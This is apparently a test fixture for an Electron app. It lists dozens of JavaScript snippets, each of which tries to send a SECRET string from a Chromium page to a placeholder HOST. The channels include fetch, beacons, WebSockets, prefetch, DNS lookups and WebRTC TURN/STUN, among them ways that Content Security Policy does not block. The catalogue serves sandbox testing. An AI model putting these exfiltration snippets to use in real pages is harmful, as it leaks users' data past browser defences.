/**
 * Ways out of a page that Chromium has, by name. Each tries to get the words SECRET and its own name to HOST. What it
 * throws is no matter.
 */
export const waysOut: Readonly<Record<string, string>> = {
  fetch: `await fetch('http://HOST/SECRET-fetch', { mode: 'no-cors' })`,
  'fetch keepalive': `await fetch('http://HOST/SECRET-keepalive', { mode: 'no-cors', method: 'POST', body: 'SECRET', keepalive: true })`,
  xhr: `const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/SECRET-xhr'); x.send()`,
  beacon: `navigator.sendBeacon('http://HOST/SECRET-beacon', 'SECRET')`,
  websocket: `new WebSocket('ws://HOST/SECRET-ws')`,
  'event source': `new EventSource('http://HOST/SECRET-es')`,
  image: `new Image().src = 'http://HOST/SECRET-img'`,
  'script element': `const s = document.createElement('script'); s.setAttribute('src', 'http://HOST/SECRET-script'); document.head.append(s)`,
  'style sheet': `add('link', { rel: 'stylesheet', href: 'http://HOST/SECRET-css' })`,
  'style rule': `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(http://HOST/SECRET-bg) }'); document.adoptedStyleSheets.push(sheet)`,
  'font face': `await new FontFace('x', 'url(http://HOST/SECRET-font)').load()`,
  preload: `add('link', { rel: 'preload', as: 'image', href: 'http://HOST/SECRET-preload' })`,
  prefetch: `add('link', { rel: 'prefetch', href: 'http://HOST/SECRET-prefetch' })`,
  preconnect: `add('link', { rel: 'preconnect', href: 'http://HOST' })`,
  'module preload': `add('link', { rel: 'modulepreload', href: 'http://HOST/SECRET-module' })`,
  manifest: `add('link', { rel: 'manifest', href: 'http://HOST/SECRET-manifest' })`,
  icon: `add('link', { rel: 'icon', href: 'http://HOST/SECRET-icon' })`,
  import: `await import('http://HOST/SECRET-import.js')`,
  frame: `add('iframe', { src: 'http://HOST/SECRET-frame' })`,
  object: `add('object', { data: 'http://HOST/SECRET-object' })`,
  embed: `add('embed', { src: 'http://HOST/SECRET-embed' })`,
  video: `add('video', { src: 'http://HOST/SECRET-video' })`,
  track: `const v = add('video', {}); const t = document.createElement('track'); t.src = 'http://HOST/SECRET-track'; t.default = true; v.append(t)`,
  form: `const f = add('form', { action: 'http://HOST/SECRET-form', method: 'post' }); f.submit()`,
  ping: `const a = add('a', { href: '#here', ping: 'http://HOST/SECRET-ping' }); a.click()`,
  download: `const a = add('a', { href: 'http://HOST/SECRET-download', download: 'x' }); a.click()`,
  window: `window.open('http://HOST/SECRET-window')`,
  location: `location.href = 'http://HOST/SECRET-location'`,
  'meta refresh': `add('meta', { 'http-equiv': 'refresh', content: '0;url=http://HOST/SECRET-refresh' })`,
  worker: `new Worker('http://HOST/SECRET-worker.js')`,
  'shared worker': `new SharedWorker('http://HOST/SECRET-shared.js')`,
  'service worker': `await navigator.serviceWorker.register('/SECRET-sw.js')`,
  worklet: `await CSS.paintWorklet?.addModule('http://HOST/SECRET-worklet.js')`,
  prerender: `const s = add('script', { type: 'speculationrules' }); s.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: ['http://HOST/SECRET-prerender'] }], prefetch: [{ source: 'list', urls: ['http://HOST/SECRET-spec'] }] })`,
  'web transport': `await new WebTransport('https://HOST/SECRET-transport').ready`,
  report: `new ReportingObserver(() => {}).observe(); add('img', { src: 'http://HOST/SECRET-report' })`,
  notification: `new Notification('SECRET', { icon: 'http://HOST/SECRET-notification', image: 'http://HOST/SECRET-notification' })`,
  payment: `await new PaymentRequest([{ supportedMethods: 'http://HOST/SECRET-pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
  'identity provider': `await navigator.credentials.get({ identity: { providers: [{ configURL: 'http://HOST/SECRET-idp', clientId: 'x' }] } })`,
  'fetch later': `fetchLater('http://HOST/SECRET-later', { activateAfter: 0 })`,
  'websocket stream': `await new WebSocketStream('ws://HOST/SECRET-stream').opened`,
  'background fetch': `await (await navigator.serviceWorker.ready).backgroundFetch.fetch('x', 'http://HOST/SECRET-background')`,
}

/**
 * Ways by which Chromium would look up a name that is in HOST, and send nothing to it. None is seen by a listener: the
 * question goes to whoever answers for the name.
 */
export const waysOutByName: Readonly<Record<string, string>> = {
  'dns prefetch': `add('link', { rel: 'dns-prefetch', href: '//prefetch.HOST' })`,
  'dns prefetch in the head': `const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = 'https://head.HOST'; document.head.append(l)`,
  'dns prefetch in a frame': `const d = add('iframe', {}).contentDocument; const l = d.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//frame.HOST'; d.head.append(l)`,
  'a link, prefetching asked for': `add('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }); add('a', { href: 'https://link.HOST/' }).textContent = 'x'`,
  'preconnect by name': `add('link', { rel: 'preconnect', href: 'https://preconnect.HOST' })`,
  'speculation by name': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: ['https://prerender.HOST/'] }], prefetch: [{ source: 'list', urls: ['https://speculation.HOST/'] }] }); document.head.append(s)`,
  'fetch by name': `await fetch('https://fetch.HOST/')`,
  'frame by name': `add('iframe', { src: 'https://iframe.HOST/' })`,
  'image by name': `add('img', { srcset: 'https://image.HOST/ 1x' })`,
  'fetch later by name': `fetchLater('https://later.HOST/', { activateAfter: 0 })`,
  'websocket stream by name': `await new WebSocketStream('wss://stream.HOST/').opened`,
  'web transport by name': `await new WebTransport('https://transport.HOST/').ready`,
  mail: `add('a', { href: 'mailto:x@mail.HOST' }).click()`,
  'another scheme': `location.href = 'keydesk://other.HOST/'`,
  'stun by name': `await peer('stun:stun.HOST')`,
  'turn over udp by name': `await peer('turn:udp.HOST?transport=udp')`,
}

/** A name that WebRTC looks up, which nothing in Electron or Chromium can refuse it: see SECURITY.md, “Limits”. */
export const knownWayOutByName = `await peer('turn:known.HOST?transport=tcp')`

/** What Content Security Policy has no directive for in Chromium: only the session and its pages can close it. */
export const waysOutByWebRtc: Readonly<Record<string, string>> = {
  'turn over udp': `await peer('turn:HOST?transport=udp')`,
  'turn over tcp': `await peer('turn:HOST?transport=tcp')`,
  'turns over tcp': `await peer('turns:HOST?transport=tcp')`,
  stun: `await peer('stun:HOST')`,
  'ice candidate': `
    const pc = new RTCPeerConnection(); pc.createDataChannel('x')
    await pc.setLocalDescription(await pc.createOffer())
    await pc.setRemoteDescription({ type: 'answer', sdp: pc.localDescription.sdp.replace('a=setup:actpass', 'a=setup:active') })
    const [address, port] = 'HOST'.split(':')
    for (const kind of ['udp', 'tcp'])
      await pc.addIceCandidate({ candidate: 'candidate:1 1 ' + kind + ' 2122260223 ' + address + ' ' + port + ' typ host' + (kind === 'tcp' ? ' tcptype passive' : ''), sdpMid: '0', sdpMLineIndex: 0 }).catch(() => {})
    await later(1500)`,
}

/** What the scripts use. */
export const wayOutHelpers = `
  const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
  const add = (tag, attributes) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    return element
  }
  const peer = async (urls) => {
    const pc = new RTCPeerConnection({ iceServers: [{ urls, username: 'SECRET-in-user-name', credential: 'x' }] })
    pc.createDataChannel('x')
    await pc.setLocalDescription(await pc.createOffer())
    await later(1500)
  }`
